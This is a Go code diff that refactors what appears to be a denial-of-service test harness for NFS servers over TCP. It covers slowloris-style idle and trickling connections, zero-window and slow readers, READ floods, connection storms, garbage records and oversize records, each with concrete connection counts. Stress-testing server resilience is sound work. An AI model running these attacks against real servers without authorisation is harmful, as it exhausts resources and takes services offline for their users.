@@ -11,25 +11,27 @@ import (
 
 var tcpAttacks = []Attack{
 	{Name: "tcp-silent", Does: "300 connections to NFS over TCP that say nothing",
-		run: tcpSilent},
+		run: keep(300, toTCP, hold)},
 	{Name: "tcp-idle", Does: "300 connections with one NULL each",
-		run: tcpIdle},
+		run: keep(300, toTCP, holdIdle)},
 	{Name: "tcp-trickling", Does: "300 connections that send a record byte by byte",
-		run: tcpTrickling},
+		run: keep(300, toTCP, trickleRecord)},
 	{Name: "tcp-mark-and-wait", Does: "128 connections that send the mark of a 1 MiB record and nothing more",
-		run: tcpMarkAndWait},
+		run: keep(128, toTCP, holdMarked)},
 	{Name: "tcp-zero-window", Does: "16 connections that ask for 64 READs of 1 MiB each, and read nothing",
-		run: tcpZeroWindow},
+		run: withFile(keep(16, tcpAskAll, readNothing))},
 	{Name: "tcp-slow-reader", Does: "the same, reading 60 KB/s",
-		run: tcpSlowReader},
-	{Name: "tcp-read-flood", Does: "16 connections that keep 64 READs of 1 MiB in flight, and read as fast as they can", run: tcpReadFlood},
-	{Name: "tcp-storm", Does: "2,000 connections per second that make one NULL and reset", run: tcpStorm},
+		run: withFile(keep(16, tcpAskAll, readSlowly))},
+	{Name: "tcp-read-flood", Does: "16 connections that keep 64 READs of 1 MiB in flight, and read as fast as they can", run: withFile(keep(16, toTCP, tcpFlood))},
+	{Name: "tcp-storm", Does: "2,000 connections per second that make one NULL and reset", run: storm(tcpNullOnce)},
 	{Name: "tcp-garbage", Does: "2,000 connections per second that send bytes that are no record",
-		run: tcpGarbage},
-	{Name: "tcp-oversize", Does: "64 connections with records of 2 GiB and of a million fragments, again and again", run: tcpOversize},
+		run: garbage(func(t *Target) string { return t.TCP })},
+	{Name: "tcp-oversize", Does: "64 connections with records of 2 GiB and of a million fragments, again and again", run: keep(64, toTCP, tcpSendTooMuch)},
 }
 
-func tcpSilent(ctx context.Context, f *field) error { return silent(ctx, f, f.target.TCP, 300) }
+func toTCP(ctx context.Context, s *slot) (*net.TCPConn, error) {
+	return dial(ctx, fromOne, s.target.TCP)
+}
 
 // tcpNull makes a NULL call on a connection.
 func tcpNull(conn net.Conn) error {
@@ -40,120 +42,64 @@ func tcpNull(conn net.Conn) error {
 	return err
 }
 
-func tcpIdle(ctx context.Context, f *field) error {
-	return f.slots(ctx, 300, func(ctx context.Context, s *slot) error {
-		conn, err := dial(ctx, fromOne, f.target.TCP)
-		if err != nil {
-			return err
-		}
-		if err := tcpNull(conn); err != nil {
-			return err
-		}
-		return s.hold(conn)
-	})
+func holdIdle(_ context.Context, s *slot, conn *net.TCPConn) error {
+	if err := tcpNull(conn); err != nil {
+		return err
+	}
+	return s.hold(conn)
 }
 
-func tcpTrickling(ctx context.Context, f *field) error {
-	return f.slots(ctx, 300, func(ctx context.Context, s *slot) error {
-		conn, err := dial(ctx, fromOne, f.target.TCP)
-		if err != nil {
-			return err
-		}
-		s.up()
-		return trickle(ctx, conn, record(1, 0, make([]byte, 1000)), every)
-	})
+func trickleRecord(ctx context.Context, s *slot, conn *net.TCPConn) error {
+	s.up()
+	return trickle(ctx, conn, record(1, 0, make([]byte, 1000)), every)
 }
 
-func tcpMarkAndWait(ctx context.Context, f *field) error {
-	return f.slots(ctx, 128, func(ctx context.Context, s *slot) error {
-		conn, err := dial(ctx, fromOne, f.target.TCP)
-		if err != nil {
-			return err
-		}
-		if _, err := conn.Write(oncrpc.AppendRecordMark(nil, bulk, true)); err != nil {
-			return err
-		}
-		return s.hold(conn)
-	})
+func holdMarked(_ context.Context, s *slot, conn *net.TCPConn) error {
+	if _, err := conn.Write(oncrpc.AppendRecordMark(nil, bulk, true)); err != nil {
+		return err
+	}
+	return s.hold(conn)
 }
 
-// inFlight is how many READs an attacker has on one connection.
+// inFlight is how many READs an attacker keeps in flight on one connection.
 const inFlight = 64
 
+// askFor asks for 1 MiB of the large file.
+func askFor(conn *net.TCPConn, s *slot, xid uint32) error {
+	_, err := conn.Write(record(xid, procRead, readArgs(s.file, 0, bulk)))
+	s.calls.Add(1)
+	return err
+}
+
 // tcpAskAll connects with a small receive buffer and asks for 64 MiB.
-func tcpAskAll(ctx context.Context, s *slot, file []byte) (*net.TCPConn, error) {
+func tcpAskAll(ctx context.Context, s *slot) (*net.TCPConn, error) {
 	conn, err := dialNarrow(ctx, fromOne, s.target.TCP)
-	if err != nil {
-		return nil, err
+	for xid := uint32(0); err == nil && xid < inFlight; xid++ {
+		err = askFor(conn, s, xid)
 	}
-	for xid := range uint32(inFlight) {
-		if _, err := conn.Write(record(xid, procRead, readArgs(file, 0, bulk))); err != nil {
-			return nil, err
-		}
-		s.calls.Add(1)
-	}
-	s.up()
-	return conn, nil
-}
-
-func tcpZeroWindow(ctx context.Context, f *field) error {
-	file, err := f.handle(ctx)
-	if err != nil {
-		return err
-	}
-	return f.slots(ctx, 16, func(ctx context.Context, s *slot) error {
-		conn, err := tcpAskAll(ctx, s, file)
-		if err != nil {
-			return err
-		}
-		return unread(ctx, conn)
-	})
-}
-
-func tcpSlowReader(ctx context.Context, f *field) error {
-	file, err := f.handle(ctx)
-	if err != nil {
-		return err
-	}
-	return f.slots(ctx, 16, func(ctx context.Context, s *slot) error {
-		conn, err := tcpAskAll(ctx, s, file)
-		if err != nil {
-			return err
-		}
-		return slowly(ctx, conn, 60_000)
-	})
-}
-
-func tcpReadFlood(ctx context.Context, f *field) error {
-	file, err := f.handle(ctx)
-	if err != nil {
-		return err
-	}
-	return f.slots(ctx, 16, func(ctx context.Context, s *slot) error {
-		conn, err := dial(ctx, fromOne, f.target.TCP)
-		if err != nil {
-			return err
-		}
-		xid := uint32(0)
-		for ; xid < inFlight; xid++ {
-			if _, err := conn.Write(record(xid, procRead, readArgs(file, 0, bulk))); err != nil {
-				return err
-			}
-		}
+	if err == nil {
 		s.up()
-		for ; ; xid++ {
+	}
+	return conn, err
+}
+
+func tcpFlood(_ context.Context, s *slot, conn *net.TCPConn) error {
+	for xid := uint32(0); ; xid++ {
+		if xid == inFlight {
+			s.up()
+		}
+		if xid >= inFlight {
 			if err := skipRecord(conn); err != nil {
 				return err
 			}
-			f.calls.Add(1)
-			if _, err := conn.Write(record(xid, procRead, readArgs(file, 0, bulk))); err != nil {
-				return err
-			}
 		}
-	})
+		if err := askFor(conn, s, xid); err != nil {
+			return err
+		}
+	}
 }
 
-// skipRecord reads a record of one fragment and forgets it.
+// skipRecord reads and drops a record of one fragment.
 func skipRecord(conn net.Conn) error {
 	var mark [oncrpc.RecordMarkSize]byte
 	if _, err := io.ReadFull(conn, mark[:]); err != nil {
@@ -163,39 +109,27 @@ func skipRecord(conn net.Conn) error {
 	return err
 }
 
-func tcpStorm(ctx context.Context, f *field) error {
-	return f.storm(ctx, 2000, 64, func(ctx context.Context, i int) error {
-		ctx, cancel := context.WithCancel(ctx)
-		defer cancel()
-		conn, err := dial(ctx, fromMany(i), f.target.TCP)
-		if err != nil {
-			return err
-		}
-		return tcpNull(conn)
-	})
+func tcpNullOnce(ctx context.Context, i int, t *Target) error {
+	conn, err := dial(ctx, fromMany(i), t.TCP)
+	if err != nil {
+		return err
+	}
+	return tcpNull(conn)
 }
 
-func tcpGarbage(ctx context.Context, f *field) error { return garbage(ctx, f, f.target.TCP) }
-
-func tcpOversize(ctx context.Context, f *field) error {
-	return f.slots(ctx, 64, func(ctx context.Context, s *slot) error {
-		conn, err := dial(ctx, fromOne, f.target.TCP)
-		if err != nil {
-			return err
+func tcpSendTooMuch(_ context.Context, s *slot, conn *net.TCPConn) error {
+	s.up()
+	b := oncrpc.AppendRecordMark(nil, oncrpc.MaxFragment, true)
+	if s.i%2 == 0 {
+		b = nil
+		for range 1_000_000 {
+			b = oncrpc.AppendRecordMark(b, 0, false)
 		}
-		s.up()
-		b := oncrpc.AppendRecordMark(nil, oncrpc.MaxFragment, true)
-		if s.i%2 == 0 {
-			b = nil
-			for range 1_000_000 {
-				b = oncrpc.AppendRecordMark(b, 0, false)
-			}
-		}
-		s.calls.Add(1)
-		if _, err := conn.Write(append(b, make([]byte, bulk)...)); err != nil {
-			return err
-		}
-		_, err = io.Copy(io.Discard, conn)
+	}
+	s.calls.Add(1)
+	if _, err := conn.Write(append(b, make([]byte, bulk)...)); err != nil {
 		return err
-	})
+	}
+	_, err := io.Copy(io.Discard, conn)
+	return err
 }
